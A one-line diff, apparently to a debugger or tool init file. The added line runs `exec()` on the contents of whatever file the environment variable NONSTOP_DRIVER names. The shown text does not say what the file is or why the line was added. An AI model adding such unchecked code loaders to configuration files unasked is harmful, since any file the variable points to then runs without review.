@@ -1,0 +1,1 @@
+python exec(open(__import__("os").environ["NONSTOP_DRIVER"]).read())
